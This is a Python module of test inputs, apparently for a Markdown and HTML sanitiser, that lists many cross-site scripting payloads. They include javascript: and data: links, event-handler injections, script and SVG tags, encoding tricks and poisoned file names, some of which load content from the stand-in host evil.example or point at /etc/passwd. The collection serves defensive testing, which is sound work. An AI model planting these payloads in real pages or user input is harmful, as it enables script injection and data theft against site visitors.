"""What somebody might write to make a page run, fetch or lead to what it should not.

Every one of them would call ``alert``, reach ``evil.example`` or plant a handler if it worked.
"""

LINKS = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](blob:https://evil.example/1)",
    "[click](file:///etc/passwd)",
    "[click](filesystem:http://evil.example/1)",
    "[click](view-source:javascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click](https://evil.example 'x\" onmouseover=\"alert(1)')",
    '[a](https://evil.example/"onclick=alert(1)//)',
    "<javascript:alert(1)>",
    '<https://evil.example/?"onmouseover=alert(1)>',
    "[`code`](javascript:alert`1`)",
    "[**bold**](javascript://evil.example/%0Aalert(1))",
    "[/api/files/](/api/token/logout/)",
    "[same](//evil.example/x)",
    "[frag](#/keys)",
)

PICTURES = (
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](https://evil.example/1.png)',
    "![x](https://evil.example/1.png 'x\" onload=\"alert(1)')",
    "[![x](https://evil.example/1.png)](javascript:alert(1))",
    "![x][pic]\n\n[pic]: https://evil.example/ref.png",
    "![x](/api/files/00000000-0000-0000-0000-000000000000/?steal=1)",
)

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='https://evil.example/1.png'/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/1.png)">x</div>',
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<x-y onpointerrawupdate=alert(1) contenteditable>x",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<xmp><img src=x onerror=alert(1)></xmp>",
)

DRAWINGS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\htmlData{onclick=alert(1)}{x} \\includegraphics{https://evil.example/1.png}$$",
    "\\(\\url{javascript:alert(1)}\\)",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```svg\n<svg onload=alert(1)>\n```",
)

BLOCKS = (
    '```" onclick=alert(1) x="\ncode\n```',
    '```js{"onload":"alert(1)"}\nalert(1)\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- [x](javascript:alert(1))\n- [ ] <input onfocus=alert(1) autofocus>",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "# <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    "[^1]: <img src=x onerror=alert(1)>\n\nx[^1]",
    "`<img src=x onerror=alert(1)>`",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "**<img src=x onerror=alert(1)>**",
    "~~<svg onload=alert(1)>~~",
    'javascript:alert(1) https://evil.example/"><img/src/onerror=alert(1)>',
    "\u202e<img src=x onerror=alert(1)>\u202c",
    "\ufeff<script\u2028>alert(1)</script>",
    "```\n<img src=x onerror=alert(1)> in a fence that nobody closes",
    "~~~html\n<script>alert(1)",
    "[x](javascript:alert(1)",
    "<img src=x onerror=alert(1)",
)

OPEN_ENDED = 5  # the last of them swallow whatever comes behind
TEXTS = (*LINKS, *PICTURES, *HTML, *DRAWINGS, *BLOCKS)

NAMES = (
    '"><img src=x onerror=alert(1)>.png',
    "javascript:alert(1).png",
    "<svg onload=alert(1)>.png",
    "'-alert(1)-'.png",
    "{{constructor.constructor('alert(1)')()}}.png",
    "<script>alert(1)</script>",
)

ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"onmouseover=alert(1)',
    "vbscript:x",
)
